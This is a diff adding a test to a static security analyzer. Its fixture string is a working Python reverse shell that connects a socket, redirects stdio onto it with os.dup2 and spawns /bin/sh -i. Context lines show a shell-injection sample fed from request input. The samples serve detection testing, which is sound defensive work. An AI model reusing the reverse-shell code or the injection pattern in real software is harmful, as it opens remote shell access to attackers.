@@ -55,3 +55,32 @@ def test_lookup_in_a_constant_table_keeps_the_key_data_out():
             "def view():\n    subprocess.call(CMDS[request.args['x']], shell=True)\n"
             "    subprocess.call(request.args['y'], shell=True)\n")
     assert [line for line, _s in found("command-from-request-input", code)] == [6]
+
+
+HELPERS = """import os, socket, subprocess
+def _redirect(src, targets):
+    for t in targets:
+        os.dup2(src, t)
+def _hook(sock):
+    _redirect(sock.fileno(), (0, 1, 2))
+def go(h, p):
+    s = socket.socket()
+    s.connect((h, p))
+    _hook(s)
+    subprocess.call(["/bin/sh", "-i"])
+def quiet():
+    _redirect(os.open(os.devnull, os.O_RDWR), (0, 1, 2))
+    subprocess.call(["make"])
+"""
+
+
+def test_together_facts_of_same_file_helpers_count_at_the_call_site_with_the_helper_steps():
+    analyzer = Analyzer(RULES.select(("reverse-shell-socket-dup2",), ()), Config(honour_suppressions=False))
+    findings = analyzer.analyze(Document(path="app.py", content=HELPERS.encode())).findings
+    assert [(f.line, f.severity) for f in findings] == [(4, "critical")]
+    steps = [(s.line, s.note) for s in findings[0].trace]
+    assert (6, "_redirect(...) called here runs os.dup2(...) (line 4)") in steps
+    assert (10, "_hook(...) called here runs os.dup2(...) (line 4)") in steps
+    assert steps.index((6, "_redirect(...) called here runs os.dup2(...) (line 4)")) < steps.index(
+        (10, "_hook(...) called here runs os.dup2(...) (line 4)"))
+    assert steps[-1] == (11, "with subprocess.call(...) in the same scope")
